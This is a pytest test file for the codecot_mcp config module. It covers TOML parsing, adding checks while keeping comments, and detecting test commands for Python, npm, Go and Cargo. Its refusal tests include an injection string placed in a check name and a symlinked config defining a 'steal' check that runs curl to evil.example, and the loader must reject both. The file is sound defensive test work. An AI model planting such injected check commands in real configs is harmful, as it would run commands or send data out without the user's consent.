import json
import tomllib
from pathlib import Path

import pytest

from codecot_mcp.errors import ArtifactError, InvalidInputError
from codecot_mcp.store import config as config_module
from codecot_mcp.store.config import (
    Config,
    add_checks,
    detect_checks,
    load_config,
    parse_config,
    render_config,
    with_check,
)


def test_a_missing_config_is_written_with_detected_checks(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[project]\nname='x'\n")
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests" / "test_x.py").write_text("def test_x(): pass\n")
    config = load_config(tmp_path / ".codecot", tmp_path)
    assert config.checks == {"tests": ["python3", "-m", "pytest", "-q"]}
    assert (tmp_path / ".codecot" / "config.toml").exists()


def test_the_rendered_config_reads_back_the_same() -> None:
    config = Config(
        checks={"tests": ["pytest", "-q"], "lint": ["ruff", "check", "."]},
        scope_policy="fail",
        token_budget=4000,
        max_files=3,
        max_lines=50,
    )
    assert parse_config(render_config(config), "config.toml") == config


def test_an_existing_config_is_never_rewritten(tmp_path: Path) -> None:
    folder = tmp_path / ".codecot"
    folder.mkdir()
    text = '[checks]\nunit = ["make", "test"]\n'
    (folder / "config.toml").write_text(text)
    assert load_config(folder, tmp_path).checks == {"unit": ["make", "test"]}
    assert (folder / "config.toml").read_text() == text


@pytest.mark.parametrize(
    ("text", "line", "words"),
    [
        ('[checks]\ntests = ["pytest"\n', 2, "invalid TOML"),
        ("[checks]\ntests = \n", 2, "invalid TOML"),
        ('[scope]\npolicy = "sometimes"\n', 2, "scope_policy"),
        ("[checks]\ntests = []\n", 2, "non-empty argument list"),
        ("[budget]\ntokens = 5\n", 2, "token_budget"),
    ],
)
def test_a_broken_config_names_file_and_line(text: str, line: int, words: str) -> None:
    with pytest.raises(ArtifactError) as caught:
        parse_config(text, ".codecot/config.toml")
    assert caught.value.line == line
    assert words in str(caught.value)
    assert ".codecot/config.toml" in str(caught.value)


def test_a_confirmed_check_is_one_new_line_under_checks() -> None:
    text = '# ours\n[checks]\ntests = ["pytest"]  # keep\n\n[scope]\npolicy = "fail"\n'
    updated = with_check(text, "lint", ["ruff", "check", "."])
    assert updated.splitlines() == [
        "# ours",
        "[checks]",
        'tests = ["pytest"]  # keep',
        'lint = ["ruff", "check", "."]',
        "",
        "[scope]",
        'policy = "fail"',
    ]
    config = parse_config(updated, "c")
    assert config.checks == {"tests": ["pytest"], "lint": ["ruff", "check", "."]}
    assert config.scope_policy == "fail"
    assert parse_config(with_check("", "t", ["x"]), "c").checks == {"t": ["x"]}


CONFIG_SHAPES = [
    # (how the person wrote the file, its text, the checks it already has)
    ("a comment after the header", '[checks] # mine\ntests = ["pytest"]\n', {"tests": ["pytest"]}),
    ("spaces inside the brackets", '[ checks ]\ntests = ["pytest"]\n', {"tests": ["pytest"]}),
    ("an inline table", 'checks = { tests = ["pytest"] }  # one line\n', {"tests": ["pytest"]}),
    (
        "no checks table, comments elsewhere",
        '# top\n[scope]  # how strict\npolicy = "fail"  # we mean it\n\n# budget\n[budget]\ntokens = 900\n',
        {},
    ),
    ("only a comment", "# nothing yet\n", {}),
    (
        "the placeholder Codecot writes",
        '# header\n[checks]\n# tests = ["python3", "-m", "pytest", "-q"]\n\n[scope]\npolicy = "warn"\n',
        {},
    ),
    ("a top-level key and no tables", "# stray\nnote = 1\n", {}),
]


@pytest.mark.parametrize(("shape", "text", "checks"), CONFIG_SHAPES, ids=[s[0] for s in CONFIG_SHAPES])
def test_a_confirmed_check_fits_any_shape_of_file_and_keeps_its_comments(
    shape: str, text: str, checks: dict[str, list[str]]
) -> None:
    updated = with_check(text, "lint", ["ruff", "check", "."])
    assert parse_config(updated, "c").checks == checks | {"lint": ["ruff", "check", "."]}
    assert tomllib.loads(updated) == tomllib.loads(text) | {
        "checks": checks | {"lint": ["ruff", "check", "."]}
    }
    assert _comments(updated) == _comments(text)


def _comments(text: str) -> list[str]:
    """Every comment of a config (what follows its '#'), in order."""
    return [line[line.index("#") :] for line in text.splitlines() if "#" in line]


@pytest.mark.parametrize(
    "argv",
    [["echo", "😀"], ["sh", "-c", 'echo "a\\b"\ttab'], ["printf", "line\nbreak"], ["x", "\x7f\u2028é"]],
    ids=["emoji", "quote-backslash-tab", "newline", "control-and-separator"],
)
def test_any_argument_reads_back_as_it_was_confirmed(tmp_path: Path, argv: list[str]) -> None:
    assert parse_config(with_check("[checks]\n", "t", argv), "c").checks == {"t": argv}
    assert parse_config(render_config(Config(checks={"t": argv})), "c").checks == {"t": argv}
    codecot = tmp_path / ".codecot"
    load_config(codecot, tmp_path)
    add_checks(codecot, {"t": argv})
    assert load_config(codecot, tmp_path).checks == {"t": argv}


def test_confirmed_checks_join_the_written_defaults_and_its_comments_stay(tmp_path: Path) -> None:
    codecot = tmp_path / ".codecot"
    load_config(codecot, tmp_path)
    before = (codecot / "config.toml").read_text(encoding="utf-8")
    add_checks(codecot, {"lint": ["ruff", "check", "."], "unit": ["make", "test"]})
    add_checks(codecot, {"lint": ["something", "else"]})  # a name already there is left alone
    after = (codecot / "config.toml").read_text(encoding="utf-8")
    assert load_config(codecot, tmp_path).checks == {"lint": ["ruff", "check", "."], "unit": ["make", "test"]}
    assert _comments(after) == _comments(before)
    assert after.count("[checks]") == 1


@pytest.mark.parametrize(
    ("name", "argv"),
    [("bad name", ["x"]), ('a"]\nevil = ["', ["x"]), ("ok", []), ("ok", ["x", ""]), ("ok", ["\ud800"])],
    ids=["space-in-name", "injection-in-name", "no-arguments", "empty-argument", "lone-surrogate"],
)
def test_a_check_that_would_not_read_back_is_refused(name: str, argv: list[str]) -> None:
    with pytest.raises(InvalidInputError):
        with_check("[checks]\n", name, argv)


def test_a_check_name_already_in_the_file_is_refused_not_doubled() -> None:
    with pytest.raises(InvalidInputError, match="already"):
        with_check('[checks]\nlint = ["ruff"]\n', "lint", ["other"])


# Imports here rather than at the top: this block was appended to the file.


_PYTEST = ["python3", "-m", "pytest", "-q"]
_NPM = ["npm", "test", "--silent"]
_GO = ["go", "test", "./..."]
_CARGO = ["cargo", "test", "--quiet"]
_NPM_PLACEHOLDER = 'echo "Error: no test specified" && exit 1'


def _package_json(test: str | None) -> str:
    return json.dumps({"name": "x", "scripts": {"test": test} if test is not None else {"build": "tsc"}})


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({"pyproject.toml": "", "tests/test_x.py": ""}, [("tests", _PYTEST)]),
        ({"setup.py": "", "test_root.py": ""}, [("tests", _PYTEST)]),
        ({"pyproject.toml": "", "src/pkg/tests/test_a.py": ""}, [("tests", _PYTEST)]),
        ({"services/api/tests/test_a.py": ""}, [("tests", _PYTEST)]),
        ({"requirements.txt": "", "lib/thing_test.py": ""}, [("tests", _PYTEST)]),
        ({"pyproject.toml": ""}, []),
        (
            {
                "pyproject.toml": "",
                "node_modules/dep/test_a.py": "",
                ".venv/lib/test_b.py": "",
                "venv/test_c.py": "",
                "build/lib/test_d.py": "",
                "dist/test_e.py": "",
            },
            [],
        ),
        ({"package.json": _package_json("vitest run")}, [("npm-test", _NPM)]),
        ({"package.json": _package_json(_NPM_PLACEHOLDER)}, []),
        ({"package.json": _package_json(None)}, []),
        ({"package.json": "{not json"}, []),
        ({"package.json": "[]"}, []),
        ({"package.json": _package_json("jest"), "scripts/test_tool.py": ""}, [("npm-test", _NPM)]),
        ({"go.mod": "module x\n"}, [("go-test", _GO)]),
        ({"Cargo.toml": "[package]\n"}, [("cargo-test", _CARGO)]),
        (
            {
                "Cargo.toml": "",
                "go.mod": "",
                "package.json": _package_json("jest"),
                "pyproject.toml": "",
                "python/tests/test_bindings.py": "",
            },
            [("tests", _PYTEST), ("npm-test", _NPM), ("go-test", _GO), ("cargo-test", _CARGO)],
        ),
    ],
    ids=[
        "python-top-level-tests",
        "python-root-test-file",
        "python-tests-inside-the-package",
        "python-tests-under-a-subfolder-without-marker",
        "python-suffix-style-test-file",
        "python-without-tests",
        "python-tests-only-in-skipped-folders",
        "npm",
        "npm-placeholder-script",
        "npm-without-test-script",
        "npm-broken-json",
        "npm-json-not-an-object",
        "npm-with-a-stray-python-script",
        "go",
        "cargo",
        "all-four-in-a-stable-order",
    ],
)
def test_detected_checks_cover_every_ecosystem_of_the_repo(
    tmp_path: Path, files: dict[str, str], expected: list[tuple[str, list[str]]]
) -> None:
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    assert list(detect_checks(tmp_path).items()) == expected


def test_the_search_for_python_tests_stops_at_its_bound(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "pyproject.toml").write_text("")
    for number in range(30):
        (tmp_path / f"pkg{number:02}").mkdir()
    (tmp_path / "pkg29" / "tests").mkdir()
    (tmp_path / "pkg29" / "tests" / "test_late.py").write_text("")
    assert "tests" in detect_checks(tmp_path)
    monkeypatch.setattr(config_module, "PYTHON_TEST_WALK_LIMIT", 10)
    assert detect_checks(tmp_path) == {}


def test_a_config_that_is_a_link_or_not_utf8_is_refused_with_its_name(tmp_path: Path) -> None:
    from codecot_mcp.errors import UnsafePathError

    codecot = tmp_path / ".codecot"
    codecot.mkdir()
    outside = tmp_path.parent / f"{tmp_path.name}-outside.toml"
    outside.write_text('[checks]\nsteal = ["curl", "evil.example"]\n')
    (codecot / "config.toml").symlink_to(outside)
    with pytest.raises(UnsafePathError, match=r"config\.toml"):
        load_config(codecot, tmp_path)
    (codecot / "config.toml").unlink()
    (codecot / "config.toml").write_bytes(b'[checks]\nt = ["caf\xe9"]\n')
    with pytest.raises(ArtifactError, match=r"\.codecot/config\.toml.*UTF-8"):
        load_config(codecot, tmp_path)
